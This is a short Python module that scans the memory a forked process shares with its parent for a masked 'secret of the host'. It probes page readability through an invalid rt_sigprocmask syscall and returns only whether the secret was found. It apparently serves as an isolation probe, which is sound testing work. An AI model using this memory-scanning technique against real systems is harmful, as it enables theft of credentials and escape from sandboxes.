"""Scans the memory it shares with its parent since the fork for a secret of the host."""

import ctypes
import mmap
import platform

PAGE = mmap.PAGESIZE
MASKING = bytes(byte ^ 0x5A for byte in range(256))
READS_A_SET = 14 if platform.machine() == "x86_64" else 135


def run(data, params):
    libc = ctypes.CDLL(None, use_errno=True)
    needle = bytes.fromhex(params["needle"])
    seeds = {id(object()), id(b"x" * 4096), id({}), id(run), id(libc), data.ctypes.data, ctypes.cast(libc.malloc(64), ctypes.c_void_p).value or 0}
    seen = set()
    for seed in seeds:
        for step in (PAGE, -PAGE):
            page = seed & -PAGE
            while len(seen) < 1 << 15 and page not in seen and readable(libc, page):
                seen.add(page)
                if needle in ctypes.string_at(page, PAGE).translate(MASKING):
                    return True
                page += step
    return False


def readable(libc, address):
    ctypes.set_errno(0)
    # An invalid `how` makes the kernel read the set first: it tells whether a page can be read, and changes nothing.
    libc.syscall(READS_A_SET, 99, ctypes.c_void_p(address), None, 8)
    return ctypes.get_errno() != 14
